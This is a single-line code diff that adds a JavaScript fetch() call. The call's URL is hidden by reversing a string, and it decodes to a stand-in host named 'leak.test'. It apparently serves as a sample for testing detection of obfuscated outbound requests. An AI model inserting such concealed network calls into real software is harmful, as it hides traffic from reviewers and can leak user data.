@@ -1,0 +1,1 @@
+fetch("/tset.kael.esrever-dlof-sj//".split("").reverse().join(""))
